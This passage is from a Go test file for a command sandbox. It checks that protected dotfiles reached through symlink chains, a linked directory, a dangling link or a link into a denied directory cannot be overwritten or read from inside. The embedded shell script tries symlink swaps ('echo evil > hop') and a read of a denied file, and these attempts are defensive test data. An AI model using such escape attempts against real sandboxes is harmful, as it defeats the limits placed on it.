	if _, err := os.Lstat(filepath.Join(b.project, "moved")); err == nil {
		t.Errorf("the .bashrc symlink was renamed from inside")
	}
}

// TestSandboxProtectedLinkChains: protected names reached through links
// that sit in the writable project: a chain of links, a linked directory
// on the way, a dangling link, and a link into a denied directory. None
// can be swapped for a file of the command's, and the denied file stays
// unreadable.
func TestSandboxProtectedLinkChains(t *testing.T) {
	b := newBox(t, "")
	outside := filepath.Join(filepath.Dir(b.home), "outside")
	secret := filepath.Join(b.home, "secret")
	for _, d := range []string{outside, secret} {
		os.MkdirAll(d, 0o755)
	}
	os.WriteFile(filepath.Join(outside, "bashrc"), []byte("# chain\n"), 0o644)
	os.WriteFile(filepath.Join(outside, "zshrc"), []byte("# dir link\n"), 0o644)
	os.WriteFile(filepath.Join(secret, "mcp.json"), []byte("DENIEDCONTENT\n"), 0o644)
	p := b.project
	os.Symlink("hop", filepath.Join(p, ".bashrc"))                        // .bashrc -> hop -> outside/bashrc
	os.Symlink(filepath.Join(outside, "bashrc"), filepath.Join(p, "hop")) //
	os.Symlink("dots/zshrc", filepath.Join(p, ".zshrc"))                  // .zshrc -> dots/zshrc, dots -> outside
	os.Symlink(outside, filepath.Join(p, "dots"))
	os.Symlink("nowhere/profile", filepath.Join(p, ".profile"))                  // dangling
	os.Symlink(filepath.Join(secret, "mcp.json"), filepath.Join(p, ".mcp.json")) // into denyRead
	data, _ := os.ReadFile(b.settings)
	data = bytes.Replace(data, []byte("denyRead: ["), []byte(fmt.Sprintf("denyRead: [%q, ", secret)), 1)
	os.WriteFile(b.settings, data, 0o600)
	out, code := b.sh(t, `cat .bashrc .zshrc; cat .mcp.json 2>&1
rm -f hop 2>/dev/null; echo evil > hop 2>/dev/null
rm -f dots 2>/dev/null; mkdir dots 2>/dev/null; echo evil > dots/zshrc 2>/dev/null
mkdir -p nowhere 2>/dev/null; echo evil > nowhere/profile 2>/dev/null; echo evil > .profile 2>/dev/null
echo done`)
	if code != 0 || !strings.Contains(out, "# chain") || !strings.Contains(out, "# dir link") || !strings.Contains(out, "done") {
		t.Errorf("inside: exit %d\n%s", code, out)
	}
	if strings.Contains(out, "DENIEDCONTENT") {
		t.Errorf("a protected link into a denied directory exposed it:\n%s", out)
	}
	for name, want := range map[string]string{".bashrc": "# chain\n", ".zshrc": "# dir link\n"} {
		if got, err := os.ReadFile(filepath.Join(p, name)); err != nil || string(got) != want {
			t.Errorf("host %s now reads %q (%v), want %q", name, got, err, want)
		}
	}
	if _, err := os.Stat(filepath.Join(p, ".profile")); err == nil {
		t.Errorf("the dangling .profile link now leads to a file the command wrote")
	}
	if _, err := os.Lstat(filepath.Join(p, "nowhere")); err == nil {
		t.Errorf("the dangling link's missing directory was created on the host")
	}
}

// sandboxProcs lists the live sandbox PID 1 processes of this test's moat
// binary (other packages' tests, run at the same time, start their own).
func sandboxProcs(t *testing.T) []int {
	t.Helper()
	ents, err := os.ReadDir("/proc")
	if err != nil {
		t.Fatal(err)
	}
	self, err := filepath.Abs(moatBin)
	if err != nil {
		t.Fatal(err)
	}
	if r, err := filepath.EvalSymlinks(self); err == nil {
		self = r
	}
	var pids []int
	for _, e := range ents {
		pid, err := strconv.Atoi(e.Name())
		if err != nil {
			continue
		}
		exe, _ := os.Readlink("/proc/" + e.Name() + "/exe")
		cmdline, _ := os.ReadFile("/proc/" + e.Name() + "/cmdline")
		if strings.TrimSuffix(exe, " (deleted)") == self && bytes.HasPrefix(cmdline, []byte("moat-sandbox\x00")) {
			pids = append(pids, pid)
		}
	}
	return pids
}
